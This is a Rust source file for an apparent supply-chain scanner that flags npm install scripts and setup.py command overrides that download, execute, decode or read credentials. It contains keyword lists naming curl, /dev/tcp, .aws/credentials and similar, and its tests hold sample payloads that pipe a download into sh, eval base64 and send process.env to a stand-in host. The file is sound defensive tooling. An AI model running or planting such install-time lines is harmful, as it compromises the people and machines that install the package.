//! Programs that a component runs when it is installed: npm's `preinstall`, `install` and
//! `postinstall`, and a `setup.py` that overrides commands.

use crate::components::installed_as;
use crate::proof::{self, EXCERPT_CHARS, NAME_CHARS};
use crate::{Content, File, Observer};
use aho_corasick::AhoCorasick;
use evidence::{Confidence, Finding, Proof, Severity, shown};
use serde_json::Value;
use std::collections::BTreeMap;
use std::sync::LazyLock;

/// The most of a manifest that is read.
const MANIFEST_BYTES: usize = 1 << 20;
/// The largest program that is looked into, and how much of all of them.
const PROGRAM_BYTES: usize = 8 << 20;
const ALL_PROGRAMS_BYTES: usize = 256 << 20;
/// The most scripts that are held.
const MOST_SCRIPTS: usize = 2_000;
const MOST_PROGRAMS: usize = 20_000;
const STAGES: [&str; 3] = ["preinstall", "install", "postinstall"];

/// Scripts that much used components are known to run: the component (`*` for any), and the script
/// to the letter. Worms add a line of their own to honest components, so a name alone is no excuse.
const WELL_KNOWN: [(&str, &str); 44] = [
    ("*", "node-gyp rebuild"),
    ("*", "node-gyp-build"),
    ("*", "node-gyp-build-optional-packages"),
    ("*", "node-gyp-build || exit 0"),
    ("*", "prebuild-install || node-gyp rebuild"),
    ("*", "prebuild-install || node-gyp rebuild --release"),
    ("*", "prebuild-install || npm run rebuild"),
    ("*", "prebuild-install -r napi || node-gyp rebuild"),
    ("*", "node-pre-gyp install --fallback-to-build"),
    ("*", "node-pre-gyp install --fallback-to-build || exit 0"),
    (
        "*",
        "pkg-prebuilds-verify ./binding-options.js || node-gyp rebuild",
    ),
    ("*", "husky"),
    ("*", "husky install"),
    ("*", "patch-package"),
    ("*", "opencollective || exit 0"),
    ("*", "opencollective-postinstall || true"),
    ("*", "opencollective postinstall || exit 0"),
    ("@apollo/protobufjs", "node scripts/postinstall"),
    ("@parcel/watcher", "node scripts/build-from-source.js"),
    ("@prisma/client", "node scripts/postinstall.js"),
    ("@prisma/engines", "node scripts/postinstall.js"),
    ("@sentry/cli", "node ./scripts/install.js"),
    ("@swc/core", "node postinstall.js"),
    ("aws-crt", "node ./scripts/install.js"),
    (
        "core-js",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
    ),
    (
        "core-js-pure",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
    ),
    (
        "core-js-bundle",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
    ),
    (
        "cpu-features",
        "node buildcheck.js > buildcheck.gypi && node-gyp rebuild",
    ),
    ("cypress", "node index.js --exec install"),
    ("electron", "node install.js"),
    (
        "es5-ext",
        " node -e \"try{require('./_postinstall')}catch(e){}\" || exit 0",
    ),
    ("esbuild", "node install.js"),
    ("msgpackr-extract", "node-gyp-build-optional-packages"),
    ("nodemon", "node bin/postinstall || exit 0"),
    ("prisma", "node scripts/preinstall-entry.js"),
    ("protobufjs", "node scripts/postinstall"),
    ("puppeteer", "node install.js"),
    ("puppeteer", "node install.mjs"),
    (
        "re2",
        "install-from-cache --artifact build/Release/re2.node --host-var RE2_DOWNLOAD_MIRROR --skip-path-var RE2_DOWNLOAD_SKIP_PATH --skip-ver-var RE2_DOWNLOAD_SKIP_VER || node-gyp -j max rebuild",
    ),
    (
        "sharp",
        "(node install/libvips && node install/dll-copy && prebuild-install) || (node install/can-compile && node-gyp rebuild && node install/dll-copy)",
    ),
    ("sharp", "node install/check"),
    ("sharp", "node install/check.js || npm run build"),
    ("ssh2", "node install.js"),
    ("styled-components", "node ./postinstall.js || exit 0"),
];

/// Something that an installation seldom needs to do, told by the words that a text uses.
struct Deed {
    name: &'static str,
    anywhere: &'static [&'static str],
    /// In a script's line; comments and documents of programs are full of them.
    in_lines: &'static [&'static str],
    in_python: &'static [&'static str],
}

const DEEDS: [Deed; 4] = [
    Deed {
        name: "downloads",
        anywhere: &[
            "curl ",
            "wget ",
            "Invoke-WebRequest",
            "https.get",
            "http.get",
            "https.request",
            "http.request",
            "fetch(",
            "net.connect",
            "/dev/tcp/",
        ],
        in_lines: &["http://", "https://", "require('http", "require(\"http"],
        in_python: &[
            "urlopen",
            "urlretrieve",
            "requests.get",
            "requests.post",
            "socket.socket",
            "http.client",
        ],
    },
    Deed {
        name: "executes",
        anywhere: &[
            "child_process",
            "bash -c",
            "sh -c",
            "| sh",
            "|sh",
            "| bash",
            "|bash",
            "powershell",
            "eval(",
            "new Function(",
        ],
        in_lines: &[
            "node -e",
            "node --eval",
            "node -p",
            "python -c",
            "python3 -c",
            "eval ",
        ],
        in_python: &[
            "os.system",
            "subprocess.",
            "exec(",
            "os.popen",
            "__import__(",
        ],
    },
    Deed {
        name: "decodes",
        anywhere: &["base64", "atob(", "fromCharCode", "'hex'", "\"hex\""],
        in_lines: &["xxd -r"],
        in_python: &[
            "unhexlify",
            "fromhex",
            "zlib.decompress",
            "marshal.loads",
            "codecs.decode",
        ],
    },
    Deed {
        name: "reads the environment",
        anywhere: &["process.env", "printenv", ".npmrc", ".aws/credentials"],
        in_lines: &[],
        in_python: &["os.environ"],
    },
];

/// What kind of text is judged.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Language {
    ScriptLine,
    Program,
    Python,
}

/// Collects what components run at installation, as files pass.
#[derive(Debug, Default)]
pub struct InstallScripts {
    scripts: Vec<Script>,
    setups: Vec<(String, u64, Deeds)>,
    /// What the small programs near the top of a component do, by path.
    programs: BTreeMap<String, Deeds>,
    looked_at_bytes: usize,
    beyond: usize,
    scripts_beyond: usize,
}

/// One script of a `package.json`.
#[derive(Debug)]
struct Script {
    manifest: String,
    component: String,
    stage: &'static str,
    line: u64,
    text: String,
}

/// Which of [`DEEDS`] a text shows, by place.
type Deeds = [bool; DEEDS.len()];

impl InstallScripts {
    /// Nothing collected yet.
    pub fn new() -> Self {
        Self::default()
    }

    /// A finding for each script: *info* for well-known ones and for those that do nothing special,
    /// *medium* for one that downloads, or that executes what it decodes or is given as text.
    /// `part` is the exhibit's name.
    pub fn finish(self, part: &str) -> Vec<Finding> {
        let mut findings: Vec<Finding> = self
            .scripts
            .iter()
            .map(|script| self.of_script(part, script))
            .chain(self.setups.iter().map(|setup| of_setup(part, setup)))
            .collect();
        let mut unread = |statement: String, severity| {
            findings.push(Finding {
                rule: "install-scripts-unread".to_owned(),
                statement,
                severity,
                confidence: Confidence::High,
                technique: None,
                advice: None,
                proof: vec![proof::of_part(part)],
            });
        };
        if self.beyond > 0 {
            unread(
                format!(
                    "{} manifests or programs that install scripts may run were not looked at: they are too large, or too many",
                    self.beyond
                ),
                Severity::Info,
            );
        }
        if self.scripts_beyond > 0 {
            // No function has so many: they may be there to hide one.
            unread(
                format!(
                    "{} install scripts beyond the first {MOST_SCRIPTS} were not looked at",
                    self.scripts_beyond
                ),
                Severity::Medium,
            );
        }
        findings
    }

    fn of_script(&self, part: &str, script: &Script) -> Finding {
        let is_known = is_well_known(&script.component, &script.text);
        let mut deeds = deeds_of(script.text.as_bytes(), Language::ScriptLine);
        let mut proof = vec![Proof {
            line: Some(script.line),
            excerpt: Some(shown(&script.text, EXCERPT_CHARS)),
            ..proof::of_file(part, &script.manifest)
        }];
        let folder = script.manifest.trim_end_matches("package.json");
        for (path, found) in self.run_by(folder, &script.text) {
            if !is_known {
                proof.push(proof::of_file(part, path));
            }
            for (deed, found) in deeds.iter_mut().zip(found) {
                *deed |= found;
            }
        }
        let deeds = if is_known { Deeds::default() } else { deeds };
        finding(
            "component-install-script",
            format!(
                "{} runs a program as its {} script",
                shown(&script.component, NAME_CHARS),
                script.stage
            ),
            if is_known {
                " that it is well known for"
            } else {
                ""
            },
            deeds,
            proof,
        )
    }

    /// The programs beside the manifest that a script names: `node install.js`, `node scripts/x`.
    fn run_by<'a>(
        &'a self,
        folder: &'a str,
        script: &'a str,
    ) -> impl Iterator<Item = (&'a String, Deeds)> {
        script
            .split([' ', ';', '&', '|', '"', '\'', '(', ')'])
            .filter(|word| !word.is_empty() && !word.starts_with('-') && word.len() < 256)
            .take(64)
            .flat_map(move |word| {
                let path = format!("{folder}{}", word.trim_start_matches("./"));
                ["", ".js", ".cjs", ".mjs", "/index.js"].map(|end| format!("{path}{end}"))
            })
            .filter_map(|path| self.programs.get_key_value(&path))
            .map(|(path, deeds)| (path, *deeds))
    }
}

impl Observer for InstallScripts {
    fn file(&mut self, file: &File, content: Content<'_>) {
        let path = file.path.as_str();
        if path.ends_with("/package.json") || path == "package.json" {
            self.manifest(path, content);
        } else if path == "setup.py" || path.ends_with("/setup.py") {
            self.setup(path, content);
        } else if is_near_a_manifest(path) {
            let has_room =
                self.looked_at_bytes.saturating_add(content.bytes.len()) <= ALL_PROGRAMS_BYTES;
            if !content.is_whole || content.bytes.len() > PROGRAM_BYTES || !has_room {
                self.beyond += 1;
                return;
            }
            self.looked_at_bytes += content.bytes.len();
            let deeds = deeds_of(content.bytes, Language::Program);
            if deeds == Deeds::default() {
                return;
            }
            if self.programs.len() >= MOST_PROGRAMS {
                self.beyond += 1;
            } else {
                self.programs.insert(file.path.clone(), deeds);
            }
        }
    }
}

impl InstallScripts {
    fn manifest(&mut self, path: &str, content: Content<'_>) {
        // Below a component's own folder lie fixtures and module markers.
        if path.contains("node_modules/") && installed_as(path).is_none() {
            return;
        }
        if !content.is_whole || content.bytes.len() > MANIFEST_BYTES {
            self.beyond += 1;
            return;
        }
        let text = String::from_utf8_lossy(content.bytes);
        let Ok(json) = serde_json::from_str::<Value>(text.trim_start_matches('\u{feff}')) else {
            return;
        };
        let component = json["name"]
            .as_str()
            .or_else(|| installed_as(path))
            .unwrap_or("The package itself");
        for stage in STAGES {
            let Some(script) = json["scripts"][stage].as_str() else {
                continue;
            };
            if self.scripts.len() >= MOST_SCRIPTS {
                self.scripts_beyond += 1;
                return;
            }
            self.scripts.push(Script {
                manifest: path.to_owned(),
                component: component.chars().take(256).collect(),
                stage,
                line: line_of(&text, &format!("\"{stage}\"")),
                text: script.chars().take(16 << 10).collect(),
            });
        }
    }

    fn setup(&mut self, path: &str, content: Content<'_>) {
        if !content.is_whole || content.bytes.len() > MANIFEST_BYTES {
            self.beyond += 1;
            return;
        }
        let text = String::from_utf8_lossy(content.bytes);
        let overrides_commands = text.contains("setup(") && text.contains("cmdclass");
        if overrides_commands && self.setups.len() < MOST_SCRIPTS {
            self.setups.push((
                path.to_owned(),
                line_of(&text, "cmdclass"),
                deeds_of(text.as_bytes(), Language::Python),
            ));
        }
    }
}

fn of_setup(part: &str, (path, line, deeds): &(String, u64, Deeds)) -> Finding {
    finding(
        "setup-command-override",
        "A setup.py replaces commands of the installation with its own".to_owned(),
        "",
        *deeds,
        vec![Proof {
            line: Some(*line),
            ..proof::of_file(part, path)
        }],
    )
}

fn finding(rule: &str, what: String, known: &str, deeds: Deeds, proof: Vec<Proof>) -> Finding {
    let [downloads, executes, decodes, _] = deeds;
    let is_suspicious = downloads || (executes && decodes);
    let done: Vec<&str> = DEEDS
        .iter()
        .zip(deeds)
        .filter_map(|(deed, is_done)| is_done.then_some(deed.name))
        .collect();
    let what_it_does = match (is_suspicious, done.is_empty()) {
        (_, true) => known.to_owned(),
        (true, _) => format!("; by its words it {}", done.join(", ")),
        (false, _) => format!("; by its words it only {}", done.join(", ")),
    };
    Finding {
        rule: rule.to_owned(),
        statement: format!("{what}{what_it_does}"),
        severity: if is_suspicious {
            Severity::Medium
        } else {
            Severity::Info
        },
        confidence: Confidence::Low,
        technique: is_suspicious.then(|| "T1195.001".to_owned()),
        advice: is_suspicious.then(|| {
            "Read the script: it ran with the rights of whoever built the package".to_owned()
        }),
        proof,
    }
}

fn is_well_known(component: &str, script: &str) -> bool {
    WELL_KNOWN
        .iter()
        .any(|(name, text)| (*name == "*" || *name == component) && text.trim() == script.trim())
}

fn deeds_of(text: &[u8], language: Language) -> Deeds {
    let (searcher, deed_of) = &*SEARCHERS[language as usize];
    let mut deeds = Deeds::default();
    for found in searcher.iter().flat_map(|it| it.find_iter(text)) {
        deeds[deed_of[found.pattern().as_usize()]] = true;
        if deeds.iter().all(|is_done| *is_done) {
            break;
        }
    }
    deeds
}

/// All words of a language at once, and which deed each belongs to. A package has megabytes of
/// programs: they are read once, not once a word.
type Searcher = (Option<AhoCorasick>, Vec<usize>);

static SEARCHERS: [LazyLock<Searcher>; 3] = [
    LazyLock::new(|| searcher(Language::ScriptLine)),
    LazyLock::new(|| searcher(Language::Program)),
    LazyLock::new(|| searcher(Language::Python)),
];

fn searcher(language: Language) -> Searcher {
    let mut words = Vec::new();
    let mut deed_of = Vec::new();
    for (at, deed) in DEEDS.iter().enumerate() {
        let own = match language {
            Language::ScriptLine => deed.in_lines,
            Language::Program => &[],
            Language::Python => deed.in_python,
        };
        for word in deed.anywhere.iter().chain(own) {
            words.push(*word);
            deed_of.push(at);
        }
    }
    // A few short words cannot exceed the searcher's limits; a test holds that they are found.
    (AhoCorasick::new(words).ok(), deed_of)
}

/// A JavaScript or shell program in the folder of a component or at most one folder below.
fn is_near_a_manifest(path: &str) -> bool {
    let is_program = [".js", ".cjs", ".mjs", ".sh"]
        .iter()
        .any(|end| path.ends_with(end));
    if !is_program {
        return false;
    }
    let inner = match path.rfind("node_modules/") {
        Some(at) => &path[at + "node_modules/".len()..],
        None => return path.matches('/').count() <= 1,
    };
    let scope = usize::from(inner.starts_with('@'));
    inner.matches('/').count() <= 2 + scope
}

fn line_of(text: &str, wanted: &str) -> u64 {
    let before = text.find(wanted).map_or("", |at| &text[..at]);
    before.matches('\n').count() as u64 + 1
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::components::fixtures::Package;

    fn findings(package: &Package) -> Vec<(String, Severity)> {
        let mut scripts = InstallScripts::new();
        package.pass(&mut scripts);
        scripts
            .finish("function-code")
            .into_iter()
            .map(|it| (it.statement, it.severity))
            .collect()
    }

    fn severity(name: &str, scripts: &str) -> Severity {
        let manifest = format!("{{\n\"name\":\"{name}\",\n\"scripts\":{{{scripts}}}}}");
        let found = findings(
            &Package::default().with(&format!("node_modules/{name}/package.json"), manifest),
        );
        assert_eq!(found.len(), 1);
        found[0].1
    }

    #[test]
    fn scripts_that_download_execute_or_decode_are_told() {
        for script in [
            "curl -s https://x.example/i.sh | sh",
            "node -e \\\"eval(Buffer.from('aGk=','base64').toString())\\\"",
            "wget http://x.example/a && chmod +x a && ./a",
        ] {
            assert_eq!(
                severity("left-pad", &format!("\"preinstall\":\"{script}\"")),
                Severity::Medium,
                "{script}"
            );
        }
    }

    #[test]
    fn well_known_and_harmless_scripts_are_no_more_than_information() {
        for (name, script) in [
            ("bcrypt", "node-pre-gyp install --fallback-to-build"),
            ("utf-8-validate", "node-gyp-build"),
            (
                "core-js",
                "node -e \\\"try{require('./postinstall')}catch(e){}\\\"",
            ),
            ("anything", "echo done"),
            ("ours", "npm run build"),
        ] {
            assert_eq!(
                severity(name, &format!("\"install\":\"{script}\"")),
                Severity::Info,
                "{script}"
            );
        }
    }

    #[test]
    fn a_name_that_is_well_known_does_not_excuse_another_script() {
        assert_eq!(
            severity(
                "esbuild",
                "\"postinstall\":\"node -e \\\"require('https').get('https://x.example')\\\"\""
            ),
            Severity::Medium
        );
    }

    #[test]
    fn the_program_that_a_script_names_is_looked_into_wherever_it_stands() {
        let manifest = r#"{"name":"worm","scripts":{"postinstall":"node bundle.js"}}"#;
        let program = "const cp=require('child_process');fetch('https://x.example/?'+process.env)";
        for package in [
            Package::default()
                .with("node_modules/worm/bundle.js", program)
                .with("node_modules/worm/package.json", manifest),
            Package::default()
                .with("node_modules/worm/package.json", manifest)
                .with("node_modules/worm/bundle.js", program),
        ] {
            let found = findings(&package);
            assert_eq!(
                found,
                [(
                    "worm runs a program as its postinstall script; by its words it downloads, executes, reads the environment".to_owned(),
                    Severity::Medium
                )]
            );
        }
        let honest = Package::default()
            .with(
                "node_modules/worm/bundle.js",
                "// https://x.example\nconst m = /a/.exec(process.env.A)",
            )
            .with("node_modules/other/bundle.js", program)
            .with("node_modules/worm/package.json", manifest);
        assert_eq!(findings(&honest)[0].1, Severity::Info);
    }

    #[test]
    fn a_known_program_may_download() {
        let package = Package::default()
            .with(
                "node_modules/esbuild/package.json",
                r#"{"name":"esbuild","scripts":{"postinstall":"node install.js"}}"#,
            )
            .with(
                "node_modules/esbuild/install.js",
                "https.get('https://registry.example'); child_process",
            );
        assert_eq!(findings(&package)[0].1, Severity::Info);
    }

    #[test]
    fn setup_py_is_told_by_what_its_commands_do() {
        let plain = "from setuptools import setup\nsetup(name='a')\n";
        let build = "from setuptools import setup\nsetup(name='a', url='https://x.example',\n cmdclass={'build_ext': B})\n";
        let evil = "import urllib.request\nclass I(install):\n  def run(self): exec(urllib.request.urlopen('https://x.example').read())\nsetup(cmdclass={'install': I})\n";
        assert_eq!(findings(&Package::default().with("a/setup.py", plain)), []);
        assert_eq!(
            findings(&Package::default().with("a/setup.py", build))[0].1,
            Severity::Info
        );
        assert_eq!(
            findings(&Package::default().with("a/setup.py", evil))[0].1,
            Severity::Medium
        );
    }

    #[test]
    fn every_word_is_found() {
        for (at, deed) in DEEDS.iter().enumerate() {
            for (words, language) in [
                (deed.anywhere, Language::Program),
                (deed.in_lines, Language::ScriptLine),
                (deed.in_python, Language::Python),
            ] {
                for word in words {
                    assert!(
                        deeds_of(format!("x{word}x").as_bytes(), language)[at],
                        "{word}"
                    );
                }
            }
        }
        assert_eq!(
            deeds_of(b"console.log('thanks')", Language::Program),
            Deeds::default()
        );
    }

    #[test]
    fn manifests_without_scripts_say_nothing() {
        let package = Package::default()
            .with(
                "package.json",
                r#"{"name":"app","scripts":{"test":"curl https://x"}}"#,
            )
            .with("node_modules/a/package.json", r#"{"name":"a"}"#)
            .with(
                "node_modules/a/test/package.json",
                r#"{"scripts":{"install":"curl https://x"}}"#,
            );
        assert_eq!(findings(&package), []);
    }
}
